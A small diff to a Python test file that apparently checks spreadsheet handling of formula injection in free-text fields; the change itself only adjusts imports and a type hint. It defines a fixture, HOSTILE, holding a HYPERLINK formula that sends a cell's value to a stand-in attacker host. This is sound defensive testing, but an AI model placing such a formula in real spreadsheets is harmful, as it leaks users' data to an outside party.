@@ -4,7 +4,7 @@ free-text field, naming the row and the column; numbers (negative ones too) are 
 from __future__ import annotations
 
 import io
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 
 import openpyxl
 import pytest
@@ -20,7 +20,7 @@ pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
 
 
-def _xlsx(rows: list[list[object]]) -> bytes:
+def _xlsx(rows: Sequence[Sequence[object]]) -> bytes:
     wb = openpyxl.Workbook()
     ws = wb.active
     assert ws is not None
